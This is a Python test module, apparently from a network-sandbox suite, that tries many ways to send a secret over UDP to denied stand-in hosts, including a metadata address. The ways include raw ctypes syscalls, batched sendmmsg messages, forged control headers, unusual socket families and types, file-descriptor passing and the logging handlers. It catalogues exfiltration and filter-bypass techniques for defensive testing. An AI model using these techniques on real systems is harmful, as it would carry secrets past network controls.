"""UDP in all its forms."""

from __future__ import annotations

import ctypes
import logging.handlers
import socket
import struct

import world
from attempts.calls import LIBC, UDP4, checked, message
from machine import sockaddr
from table import ATTEMPTS, attempt

TO = (world.DENIED4, world.UDP)


def udp(family=socket.AF_INET):
    return socket.socket(family, socket.SOCK_DGRAM)


@attempt("udp", quick=True)
def sendto(aim):
    udp().sendto(aim.secret, TO)


@attempt("udp")
def sendto_by_name(aim):
    udp().sendto(aim.secret, ("denied.test", world.UDP))


@attempt("udp", "feature:ipv6")
def sendto_v6(aim):
    udp(socket.AF_INET6).sendto(aim.secret, (world.DENIED6, world.UDP))


@attempt("udp", "feature:ipv6")
def sendto_mapped(aim):
    udp(socket.AF_INET6).sendto(aim.secret, (world.MAPPED, world.UDP))


@attempt("udp")
def sendto_metadata(aim):
    udp().sendto(aim.secret, (world.METADATA4, world.UDP))


@attempt("udp")
def sendto_quic_port(aim):
    udp().sendto(b"\xc0\0\0\0\1" + aim.secret.ljust(1200, b"\0"), (world.DENIED4, 443))


@attempt("udp", quick=True)
def connected(aim):
    opened = udp()
    opened.connect(TO)
    opened.send(aim.secret)


@attempt("udp")
def connected_and_written(aim):
    import os

    opened = udp()
    opened.connect(TO)
    os.write(opened.fileno(), aim.secret)


@attempt("udp")
def sendmsg(aim):
    udp().sendmsg([aim.secret], [], 0, TO)


@attempt("udp", "feature:ipv6")
def sendmsg_v6(aim):
    udp(socket.AF_INET6).sendmsg([aim.secret], [], 0, (world.DENIED6, world.UDP))


@attempt("udp")
def sendmsg_with_control(aim):
    info = struct.pack("=I4s4s", 0, socket.inet_aton(world.ALLOWED4), b"\0" * 4)
    udp().sendmsg([aim.secret], [(socket.IPPROTO_IP, 8, info)], 0, TO)


@attempt("udp")
def connected_to_one_and_sent_to_another(aim):
    opened = udp()
    try:
        opened.connect((world.ALLOWED4, world.UDP))
    except OSError:
        pass
    opened.sendto(aim.secret, TO)


@attempt("udp")
def c_socket(aim):
    import _socket

    _socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(aim.secret, TO)


@attempt("udp")
def ctypes_sendto(aim):
    opened = udp()
    checked(LIBC.sendto(opened.fileno(), aim.secret, len(aim.secret), 0, UDP4, 16))


@attempt("udp")
def ctypes_sendmsg(aim):
    opened = udp()
    header, _keep = message(UDP4, aim.secret)
    checked(LIBC.sendmsg(opened.fileno(), ctypes.byref(header), 0))


@attempt("udp")
def ctypes_sendmmsg(aim):
    opened = udp()
    header, _keep = message(UDP4, aim.secret)
    checked(LIBC.sendmmsg(opened.fileno(), ctypes.create_string_buffer(bytes(header) + b"\0" * 8, 64), 1, 0))


@attempt("udp")
def ctypes_second_of_two_messages(aim):
    """The first is for an allowed address, the second is not."""
    opened = udp()
    first, _one = message(sockaddr(world.ALLOWED4, world.UDP), b"hello")
    second, _two = message(UDP4, aim.secret)
    block = ctypes.create_string_buffer(bytes(first) + b"\0" * 8 + bytes(second) + b"\0" * 8, 128)
    checked(LIBC.sendmmsg(opened.fileno(), block, 2, 0))


@attempt("udp")
def ctypes_family_unspecified(aim):
    """The kernel reads AF_UNSPEC in sendto on an IPv4 socket as AF_INET."""
    opened = udp()
    checked(LIBC.sendto(opened.fileno(), aim.secret, len(aim.secret), 0, b"\0\0" + UDP4[2:], 16))


@attempt("udp")
def ctypes_connect(aim):
    opened = udp()
    checked(LIBC.connect(opened.fileno(), UDP4, 16))
    opened.send(aim.secret)


@attempt("udp")
def type_with_flags(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)
    opened.sendto(aim.secret, TO)


@attempt("udp")
def protocol_by_number(aim):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 17).sendto(aim.secret, TO)


@attempt("udp")
def type_with_high_bits(aim):
    """The kernel takes the type as 32 bits."""
    fd = LIBC.syscall(ctypes.c_long(41), ctypes.c_long(2), ctypes.c_ulong((1 << 40) | 2), ctypes.c_long(0))
    checked(fd)
    socket.socket(fileno=fd).sendto(aim.secret, TO)


@attempt("udp")
def syslog(aim):
    logging.handlers.SysLogHandler(TO).emit(logging.makeLogRecord({"msg": aim.token}))


@attempt("udp")
def datagram_handler(aim):
    logging.handlers.DatagramHandler(*TO).emit(logging.makeLogRecord({"msg": aim.token}))


@attempt("udp", before=lambda aim: udp())
def socket_made_before(aim, opened):
    opened.sendto(aim.secret, TO)


@attempt("udp")
def from_a_socket_pair(aim):
    """A socket that came in over another one."""
    ours, theirs = socket.socketpair()
    opened = udp()
    socket.send_fds(theirs, [b"x"], [opened.fileno()])
    _, fds, _, _ = socket.recv_fds(ours, 1, 1)
    socket.socket(fileno=fds[0]).sendto(aim.secret, TO)


# With allow_udp the kernel's boundary watches every send: the same, under a policy that opens UDP to allowed names.
for _way in (
    sendto, sendto_by_name, sendto_v6, sendto_mapped, sendto_metadata, connected, sendmsg, sendmsg_with_control,
    connected_to_one_and_sent_to_another, ctypes_sendto, ctypes_sendmsg, ctypes_sendmmsg, ctypes_second_of_two_messages,
    ctypes_family_unspecified, ctypes_connect,
):  # fmt: skip
    ATTEMPTS.add("udp allowed", f"{_way.__name__.replace('_', ' ')}, allow_udp", _way)
